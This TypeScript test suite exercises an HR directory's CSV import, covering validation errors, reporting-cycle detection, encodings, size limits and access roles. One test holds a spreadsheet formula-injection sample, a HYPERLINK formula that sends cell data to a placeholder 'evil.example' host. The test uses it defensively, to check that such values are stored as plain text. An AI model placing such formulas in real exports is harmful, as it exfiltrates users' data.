import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { startServiceFixture, type ServiceFixture } from '@growth/service-testing';
import { runImportCli, type CliOutput } from '../import-cli';
import { startDirectoryService } from '../directory.service';
import { atDistrict, codeOf, csvOf, eventTypes, idOf, importCsv, person, sql, type CsvRow } from '../testing/directory.spec-helper';
import { MAX_IMPORT_CSV_BYTES } from './import.resolver';

const count = async (fixture: ServiceFixture, table: string, tenantId: string) =>
  (await sql<{ n: number }>(fixture, tenantId, `SELECT count(*)::int AS n FROM ${table} WHERE tenant_id = $1`))[0].n;

/** The HRIS import through the API. Each test works in a tenant of its own, so they do not see each other's people. */
describe('HRIS import', () => {
  let fixture: ServiceFixture;
  let tenants = 0;
  const newTenant = () => ({ tenantId: `t${(tenants += 1)}`, actorId: 'hr-1', roles: ['hr'] });

  const org: CsvRow[] = [
    person('E100', 'Cal', '', { ...atDistrict, job_classification: 'Area Manager' }),
    person('E200', 'Bea', 'E100', { job_classification: 'Plant Manager' }),
    person('E300', 'Ana', 'E200'),
    person('E301', 'Eli', 'E200', { work_email: '' }),
  ];

  beforeAll(async () => {
    fixture = await startServiceFixture(startDirectoryService);
  });
  afterAll(async () => fixture?.close());

  it('imports people, sites and reporting lines; re-importing the same file changes nothing', async () => {
    const tenant = newTenant();
    const first = await importCsv(fixture, csvOf(org), 'REJECT_ALL_ON_ERROR', tenant);
    expect(first).toMatchObject({ applied: true, rowsRead: 4, created: 4, changed: 0, unchanged: 0, rejected: 0, sitesCreated: 2, errors: [] });
    const events = await eventTypes(fixture, tenant.tenantId);
    expect(events.filter((t) => t === 'PersonJoined')).toHaveLength(4);
    expect(events.filter((t) => t === 'SupervisorAssigned')).toHaveLength(3);

    const again = await importCsv(fixture, csvOf(org), 'REJECT_ALL_ON_ERROR', tenant);
    expect(again).toMatchObject({ applied: true, rowsRead: 4, created: 0, changed: 0, unchanged: 4, rejected: 0, sitesCreated: 0, sitesChanged: 0 });
    expect(await eventTypes(fixture, tenant.tenantId)).toEqual(events);
    // Staging is cleaned up.
    expect(await count(fixture, 'directory_import_rows', tenant.tenantId)).toBe(0);
  });

  it('emits only the change for a changed row', async () => {
    const tenant = newTenant();
    await importCsv(fixture, csvOf(org), 'REJECT_ALL_ON_ERROR', tenant);
    const before = await eventTypes(fixture, tenant.tenantId);
    const changed = org.map((row) => (row.staff_number === 'E300' ? { ...row, last_name: 'López' } : row.staff_number === 'E301' ? { ...row, supervisor_staff_number: 'E100' } : row));
    const report = await importCsv(fixture, csvOf(changed), 'REJECT_ALL_ON_ERROR', tenant);
    expect(report).toMatchObject({ created: 0, changed: 2, unchanged: 2 });
    // Applied top-down: Eli (now under Cal) before Ana.
    expect((await eventTypes(fixture, tenant.tenantId)).slice(before.length).sort()).toEqual(['PersonDetailsChanged', 'SupervisorChanged']);
    const [row] = await sql(fixture, tenant.tenantId, `SELECT last_name FROM directory_people WHERE tenant_id = $1 AND staff_number = 'E300'`);
    expect(row).toEqual({ last_name: 'López' });
  });

  it('decides only the rows that differ from the directory: a renamed site changes the site, no person', async () => {
    const tenant = newTenant();
    await importCsv(fixture, csvOf(org), 'REJECT_ALL_ON_ERROR', tenant);
    const before = await eventTypes(fixture, tenant.tenantId);
    const renamed = org.map((row) => (row.site_code === 'S1' ? { ...row, site_name: 'School Uno' } : row));
    const report = await importCsv(fixture, csvOf(renamed), 'REJECT_ALL_ON_ERROR', tenant);
    expect(report).toMatchObject({ applied: true, created: 0, changed: 0, unchanged: 4, sitesCreated: 0, sitesChanged: 1 });
    expect((await eventTypes(fixture, tenant.tenantId)).slice(before.length)).toEqual(['SiteDetailsChanged']);
    // A file the directory already matches row for row is still checked for duplicates, and then applies nothing.
    const doubled = await importCsv(fixture, csvOf([...renamed, org[3]]), 'APPLY_VALID_ROWS', tenant);
    expect(doubled).toMatchObject({ applied: true, changed: 0, unchanged: 4, rejected: 1, errors: [{ row: 6, field: 'staff_number', message: 'staff number E301 already appears on line 5' }] });
  });

  it('reports bad rows by row number and field, and applies the good ones (APPLY_VALID_ROWS)', async () => {
    const tenant = newTenant();
    const rows = [...org, person('E302', 'Fay', 'E200', { work_email: 'fay-at-example' }), person('E303', 'Gus', 'E200', { start_date: '2020-02-30', employment_status: 'RETIRED' })];
    const report = await importCsv(fixture, csvOf(rows), 'APPLY_VALID_ROWS', tenant);
    expect(report).toMatchObject({ applied: true, rowsRead: 6, created: 4, rejected: 2, errorCount: 3 });
    // Line 1 is the header: Fay is on line 6, Gus on line 7.
    expect(report.errors).toEqual([
      { row: 6, field: 'work_email', message: 'must be an email address' },
      { row: 7, field: 'employment_status', message: 'must be ACTIVE, ON_LEAVE or LEFT' },
      { row: 7, field: 'start_date', message: 'must be a date as YYYY-MM-DD' },
    ]);
    expect(await count(fixture, 'directory_people', tenant.tenantId)).toBe(4);
  });

  it('writes nothing at all when any row is bad (REJECT_ALL_ON_ERROR)', async () => {
    const tenant = newTenant();
    await importCsv(fixture, csvOf(org.slice(0, 2)), 'REJECT_ALL_ON_ERROR', tenant);
    const before = { events: await eventTypes(fixture, tenant.tenantId), people: await count(fixture, 'directory_people', tenant.tenantId) };
    const rows = [...org.map((r) => ({ ...r, job_classification: 'Changed' })), person('E302', 'Fay', 'E999')];
    const report = await importCsv(fixture, csvOf(rows), 'REJECT_ALL_ON_ERROR', tenant);
    expect(report).toMatchObject({ applied: false, rowsRead: 5, created: 0, changed: 0, rejected: 1 });
    expect(report.errors).toEqual([{ row: 6, field: 'supervisor_staff_number', message: expect.stringContaining('E999') }]);
    expect(await eventTypes(fixture, tenant.tenantId)).toEqual(before.events);
    expect(await count(fixture, 'directory_people', tenant.tenantId)).toBe(before.people);
    expect(await count(fixture, 'directory_sites', tenant.tenantId)).toBe(2);
  });

  it('rejects the rows that would close a reporting cycle, within the file', async () => {
    const tenant = newTenant();
    const rows = [...org, person('X1', 'Xia', 'X3'), person('X2', 'Yan', 'X1'), person('X3', 'Zed', 'X2'), person('X4', 'Under', 'X3')];
    const report = await importCsv(fixture, csvOf(rows), 'APPLY_VALID_ROWS', tenant);
    expect(report.errors.slice(0, 3)).toEqual([
      { row: 6, field: 'supervisor_staff_number', message: 'would close a reporting cycle (each reports to the next): X1 → X3 → X2 → X1' },
      { row: 7, field: 'supervisor_staff_number', message: expect.stringContaining('would close a reporting cycle') },
      { row: 8, field: 'supervisor_staff_number', message: expect.stringContaining('would close a reporting cycle') },
    ]);
    // X4 reports to a rejected newcomer: rejected in turn. The rest of the file is applied.
    expect(report.errors[3]).toEqual({ row: 9, field: 'supervisor_staff_number', message: expect.stringContaining('X3') });
    expect(report).toMatchObject({ created: 4, rejected: 4 });
  });

  it('rejects a row that would close a cycle with the existing hierarchy', async () => {
    const tenant = newTenant();
    await importCsv(fixture, csvOf(org), 'REJECT_ALL_ON_ERROR', tenant);
    // Cal (top) reporting to Ana (below Bea below Cal): only Cal's row changes an edge, so only it is reported.
    const rows = org.map((r) => (r.staff_number === 'E100' ? { ...r, supervisor_staff_number: 'E300' } : r));
    const report = await importCsv(fixture, csvOf(rows), 'REJECT_ALL_ON_ERROR', tenant);
    expect(report).toMatchObject({ applied: false, rejected: 1 });
    expect(report.errors).toEqual([{ row: 2, field: 'supervisor_staff_number', message: 'would close a reporting cycle (each reports to the next): E100 → E300 → E200 → E100' }]);
  });

  it('reorganises a hierarchy whose new shape is valid, even when applying it row by row would pass through a cycle', async () => {
    const tenant = newTenant();
    await importCsv(fixture, csvOf(org), 'REJECT_ALL_ON_ERROR', tenant);
    // Bea is promoted over Cal: Cal now reports to Bea, Bea to no one.
    const rows = org.map((r) => (r.staff_number === 'E100' ? { ...r, supervisor_staff_number: 'E200' } : r.staff_number === 'E200' ? { ...r, supervisor_staff_number: '' } : r));
    const report = await importCsv(fixture, csvOf(rows), 'REJECT_ALL_ON_ERROR', tenant);
    expect(report).toMatchObject({ applied: true, changed: 2, rejected: 0 });
    const [bea, cal] = [await idOf(fixture, 'E200', tenant.tenantId), await idOf(fixture, 'E100', tenant.tenantId)];
    expect(await sql(fixture, tenant.tenantId, `SELECT staff_number, supervisor_id FROM directory_people WHERE tenant_id = $1 AND staff_number IN ('E100', 'E200') ORDER BY 1`)).toEqual([
      { staff_number: 'E100', supervisor_id: bea },
      { staff_number: 'E200', supervisor_id: null },
    ]);
    expect(cal).not.toBe(bea);
  });

  it('rejects site trees with loops, conflicting definitions and unknown parents', async () => {
    const tenant = newTenant();
    const rows = [
      ...org,
      person('S1', 'Sal', 'E100', { site_code: 'A', site_name: 'Annex', parent_site_code: 'B' }),
      person('S2', 'Sam', 'E100', { site_code: 'B', site_name: 'Bungalow', parent_site_code: 'A' }),
      person('S3', 'Sid', 'E100', { site_code: 'S1', site_name: 'School 1', parent_site_code: 'D1' }),
      person('S4', 'Sue', 'E100', { site_code: 'C', site_name: 'Cabin', parent_site_code: 'NOPE' }),
    ];
    const report = await importCsv(fixture, csvOf(rows), 'APPLY_VALID_ROWS', tenant);
    expect(report.errors).toEqual([
      { row: 6, field: 'parent_site_code', message: 'would put site A below itself (each under the next): A → B → A' },
      { row: 7, field: 'parent_site_code', message: 'would put site B below itself (each under the next): B → A → B' },
      { row: 8, field: 'site_name', message: 'site S1 is named "School One" on line 3' },
      { row: 9, field: 'parent_site_code', message: 'no site with code NOPE in this file or the directory' },
    ]);
  });

  it('rejects duplicate staff numbers and people reporting to a leaver; processes leavers after reassignments', async () => {
    const tenant = newTenant();
    await importCsv(fixture, csvOf(org), 'REJECT_ALL_ON_ERROR', tenant);
    // Bea leaves; Ana is reassigned to Cal in the same file; Eli (not in this file) is left without a supervisor.
    const rows = [
      org[0],
      { ...org[1], employment_status: 'LEFT' },
      { ...org[2], supervisor_staff_number: 'E100' },
      person('E400', 'New', 'E200'),
      person('E100', 'Copy', ''),
    ];
    const report = await importCsv(fixture, csvOf(rows), 'APPLY_VALID_ROWS', tenant);
    expect(report.errors).toEqual([
      { row: 5, field: 'supervisor_staff_number', message: 'supervisor E200 has left and cannot supervise anyone' },
      { row: 6, field: 'staff_number', message: 'staff number E100 already appears on line 2' },
    ]);
    expect(report).toMatchObject({ changed: 2, unchanged: 1, rejected: 2 });
    const people = await sql(fixture, tenant.tenantId, `SELECT staff_number, employment_status, supervisor_id IS NOT NULL AS supervised FROM directory_people WHERE tenant_id = $1 ORDER BY 1`);
    expect(people).toEqual([
      { staff_number: 'E100', employment_status: 'ACTIVE', supervised: false },
      { staff_number: 'E200', employment_status: 'LEFT', supervised: false },
      { staff_number: 'E300', employment_status: 'ACTIVE', supervised: true },
      { staff_number: 'E301', employment_status: 'ACTIVE', supervised: false },
    ]);
  });

  it('refuses a file without the required columns, or one it cannot parse, and writes nothing', async () => {
    const tenant = newTenant();
    const headerless = await importCsv(fixture, 'staff_number,first_name\nE1,Ana\n', 'APPLY_VALID_ROWS', tenant);
    expect(headerless).toMatchObject({ applied: false, rowsRead: 0, errorCount: 6 });
    expect(headerless.errors[0]).toEqual({ row: 1, field: 'last_name', message: 'required column is missing from the header' });
    const broken = await importCsv(fixture, `${csvOf(org)}E9,"unclosed,quote\n`, 'APPLY_VALID_ROWS', tenant);
    expect(broken).toMatchObject({ applied: false, created: 0 });
    expect(broken.errors[0]).toEqual({ row: 6, field: null, message: 'unreadable CSV: Quote Not Closed: the parsing is finished with an opening quote at line 6' });
    expect(await count(fixture, 'es_events', tenant.tenantId)).toBe(0);
  });

  it('refuses a header with a repeated or unknown column, naming it, and writes nothing', async () => {
    const tenant = newTenant();
    const [header, ...rows] = csvOf(org).split('\n');
    // Matched case-insensitively: Site_Code repeats site_code (which of the two would count?).
    const repeated = await importCsv(fixture, [`${header},Site_Code`, ...rows.map((r) => (r ? `${r},S9` : r))].join('\n'), 'APPLY_VALID_ROWS', tenant);
    expect(repeated).toMatchObject({ applied: false, rowsRead: 0, created: 0 });
    expect(repeated.errors).toEqual([{ row: 1, field: 'site_code', message: 'column site_code appears more than once in the header (columns 6 and 12)' }]);
    // A typo would otherwise drop the column silently.
    const unknown = await importCsv(fixture, [header.replace('supervisor_staff_number', 'supervisor_staff_no'), ...rows].join('\n'), 'APPLY_VALID_ROWS', tenant);
    expect(unknown).toMatchObject({ applied: false, rowsRead: 0, created: 0 });
    expect(unknown.errors).toEqual([{ row: 1, field: 'supervisor_staff_no', message: expect.stringMatching(/^unknown column "supervisor_staff_no" \(column 9\); the columns are staff_number, /) }]);
    expect(await count(fixture, 'es_events', tenant.tenantId)).toBe(0);
  });

  it('numbers rows by the line of the file they start on: blank lines and values spanning lines count, CRLF or LF', async () => {
    const tenant = newTenant();
    const header = csvOf([]).trimEnd();
    const lineOf = (row: CsvRow) => csvOf([row]).slice(header.length + 1, -1);
    const [cal, bea, ana] = [org[0], { ...org[1], job_classification: 'Plant Manager\r\n(acting)' }, { ...org[2], work_email: 'ana-at-example' }].map(lineOf);
    const lines = [
      header, // 1
      cal, // 2
      '', // 3: blank, skipped
      bea, // 4 and 5: a quoted value with a line break
      ana, // 6: bad email
      '', // 7
      '', // 8
      'E100,Dup,Dupson,,Custodian,S1,School One,D1,,ACTIVE,2020-08-17', // 9: a repeated staff number
    ];
    const report = await importCsv(fixture, `${lines.join('\r\n')}\r\n`, 'APPLY_VALID_ROWS', tenant);
    expect(report).toMatchObject({ applied: true, rowsRead: 4, created: 2, rejected: 2 });
    expect(report.errors).toEqual([
      { row: 6, field: 'work_email', message: 'must be an email address' },
      { row: 9, field: 'staff_number', message: 'staff number E100 already appears on line 2' },
    ]);
    expect(await sql(fixture, tenant.tenantId, `SELECT job_classification FROM directory_people WHERE tenant_id = $1 AND staff_number = 'E200'`)).toEqual([
      { job_classification: 'Plant Manager\r\n(acting)' },
    ]);
    // An unreadable record is numbered the same way, in the parser's message too (the parser's own count, which takes
    // the CRLF inside a quoted value for two lines, would be off).
    const broken = await importCsv(fixture, `${lines.slice(0, 5).join('\r\n')}\r\n\r\nE9,"unclosed,quote\r\n`, 'APPLY_VALID_ROWS', newTenant());
    expect(broken.errors).toEqual([{ row: 8, field: null, message: 'unreadable CSV: Quote Not Closed: the parsing is finished with an opening quote at line 8' }]);
  });

  it('stores cells a spreadsheet would run as formulas (= + - @) verbatim, as text', async () => {
    const tenant = newTenant();
    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
    const rows = [org[0], person('F1', formula, 'E100', { last_name: '@SUM(1+1)', job_classification: '+Custodian', site_code: 'S9', site_name: '-Annex' })];
    expect(await importCsv(fixture, csvOf(rows), 'REJECT_ALL_ON_ERROR', tenant)).toMatchObject({ applied: true, created: 2, rejected: 0 });
    expect(await sql(fixture, tenant.tenantId, `SELECT first_name, last_name, job_classification FROM directory_people WHERE tenant_id = $1 AND staff_number = 'F1'`)).toEqual([
      { first_name: formula, last_name: '@SUM(1+1)', job_classification: '+Custodian' },
    ]);
    expect(await sql(fixture, tenant.tenantId, `SELECT name FROM directory_sites WHERE tenant_id = $1 AND code = 'S9'`)).toEqual([{ name: '-Annex' }]);
    // And read back through the API as the same text.
    const read = await fixture.query<{ people: { items: Array<{ firstName: string }> } }>(`{ people(first: 10) { items { firstName } } }`, {}, tenant);
    expect(read.data?.people.items.map((p) => p.firstName)).toContain(formula);
  });

  it('refuses text PostgreSQL cannot store (a NUL, an unpaired surrogate) as a row error naming the field', async () => {
    const tenant = newTenant();
    const rows = [
      org[0],
      person('E200', 'Bea', 'E100', { first_name: 'Bea\u0000' }),
      person('E300', 'Ana', 'E100', { last_name: 'Re\uD800yes' }),
      person('E4\u00000', 'Eli', 'E100', { job_classification: 'Cook \uDC00' }),
      person('E500', 'Fay', 'E100'),
    ];
    const report = await importCsv(fixture, csvOf(rows), 'APPLY_VALID_ROWS', tenant);
    expect(report).toMatchObject({ applied: true, rowsRead: 5, created: 2, rejected: 3 });
    // A surrogate reaches the parser as U+FFFD (it reads bytes): refused as text that was not valid Unicode.
    const notUnicode = expect.stringMatching(/^contains U\+FFFD, which stands for text that was not valid Unicode: an unpaired UTF-16 surrogate, or bytes/);
    expect(report.errors).toEqual([
      { row: 3, field: 'first_name', message: 'contains a NUL character (U+0000), which cannot be stored' },
      { row: 4, field: 'last_name', message: notUnicode },
      { row: 5, field: 'job_classification', message: notUnicode },
      { row: 5, field: 'staff_number', message: 'contains a NUL character (U+0000), which cannot be stored' },
    ]);
    expect(await sql(fixture, tenant.tenantId, `SELECT staff_number FROM directory_people WHERE tenant_id = $1 ORDER BY 1`)).toEqual([{ staff_number: 'E100' }, { staff_number: 'E500' }]);
  });

  it('accepts quoted fields, a byte-order mark and CRLF line ends', async () => {
    const tenant = newTenant();
    const csv = `\uFEFF${csvOf([person('Q1', 'Quinn', '', { ...atDistrict, last_name: "O'Neil, Jr.", job_classification: 'Custodian "Lead"' })]).replace(/\n/g, '\r\n')}`;
    expect(await importCsv(fixture, csv, 'REJECT_ALL_ON_ERROR', tenant)).toMatchObject({ applied: true, created: 1 });
    expect(await sql(fixture, tenant.tenantId, `SELECT last_name, job_classification FROM directory_people WHERE tenant_id = $1`)).toEqual([
      { last_name: "O'Neil, Jr.", job_classification: 'Custodian "Lead"' },
    ]);
  });

  it('limits the size of a CSV sent through GraphQL', async () => {
    const csv = csvOf(org) + 'x'.repeat(MAX_IMPORT_CSV_BYTES);
    const result = await fixture.query('mutation($csv: String!) { importPeople(csv: $csv, mode: APPLY_VALID_ROWS) { rowsRead } }', { csv }, newTenant());
    expect(codeOf(result)).toBe('VALIDATION_FAILED');
  });

  it('is refused to analysts and employees', async () => {
    for (const roles of [['analyst'], ['employee'], ['platform_operator']]) {
      const result = await fixture.query('mutation($csv: String!) { importPeople(csv: $csv, mode: APPLY_VALID_ROWS) { rowsRead } }', { csv: csvOf(org) }, { ...newTenant(), roles });
      expect(codeOf(result)).toBe('FORBIDDEN');
    }
  });
});

describe('HRIS import CLI', () => {
  let fixture: ServiceFixture;
  beforeAll(async () => {
    fixture = await startServiceFixture(startDirectoryService);
  });
  afterAll(async () => fixture?.close());

  it('streams a file through the same import and prints the report with its memory use', async () => {
    const file = path.join(mkdtempSync(path.join(tmpdir(), 'directory-import-')), 'people.csv');
    writeFileSync(file, csvOf([person('E100', 'Cal', '', atDistrict), person('E200', 'Bea', 'E100'), person('E300', 'Ana', 'E200', { start_date: 'soon' })]));
    const databaseUrl = (fixture.service.infrastructure.dataSource.options as { url: string }).url;
    let printed = '';
    const code = await runImportCli(['--tenant', 'cli', '--file', file, '--mode', 'APPLY_VALID_ROWS', '--actor', 'hr-7'], { DATABASE_URL: databaseUrl }, (t) => void (printed += t));
    const { report, stats } = JSON.parse(printed) as CliOutput;
    expect(code).toBe(2); // a row was rejected
    expect(report).toMatchObject({ applied: true, rowsRead: 3, created: 2, rejected: 1, errors: [{ row: 4, field: 'start_date', message: 'must be a date as YYYY-MM-DD' }] });
    expect(stats).toMatchObject({ seconds: expect.any(Number), peakRssMb: expect.any(Number), peakHeapMb: expect.any(Number) });
    const [actor] = await sql<{ actor_id: string }>(fixture, 'cli', `SELECT DISTINCT actor_id FROM es_events WHERE tenant_id = $1`);
    expect(actor).toEqual({ actor_id: 'hr-7' });
  });

  it('refuses a NUL byte, or bytes that are not UTF-8 (a Latin-1 file), as a row error naming the field', async () => {
    const file = path.join(mkdtempSync(path.join(tmpdir(), 'directory-import-')), 'people.csv');
    const [header, cal, bea, ana] = csvOf([person('E100', 'Cal', '', atDistrict), person('E200', 'Bea', 'E100', { last_name: 'Nu\u0000ll' }), person('E300', 'Jose', 'E100')]).split('\n');
    // José in Latin-1: é is the single byte 0xE9.
    writeFileSync(file, Buffer.concat([Buffer.from(`${header}\n${cal}\n${bea}\n`), Buffer.from(ana.replace('Jose', 'Jos\u00e9'), 'latin1'), Buffer.from('\n')]));
    let printed = '';
    const databaseUrl = (fixture.service.infrastructure.dataSource.options as { url: string }).url;
    expect(await runImportCli(['--tenant', 'cli-bytes', '--file', file, '--mode', 'APPLY_VALID_ROWS'], { DATABASE_URL: databaseUrl }, (t) => void (printed += t))).toBe(2);
    const { report } = JSON.parse(printed) as CliOutput;
    expect(report).toMatchObject({ applied: true, rowsRead: 3, created: 1, rejected: 2 });
    expect(report.errors).toEqual([
      { row: 3, field: 'last_name', message: 'contains a NUL character (U+0000), which cannot be stored' },
      { row: 4, field: 'first_name', message: expect.stringContaining('bytes that are not UTF-8 (save the file as UTF-8)') },
    ]);
  });

  it('explains its usage when arguments are missing', async () => {
    const stderr = jest.spyOn(process.stderr, 'write').mockImplementation(() => true);
    try {
      expect(await runImportCli(['--tenant', 'x'], {})).toBe(1);
      expect(String(stderr.mock.calls[0][0])).toContain('Usage');
    } finally {
      stderr.mockRestore();
    }
  });
});
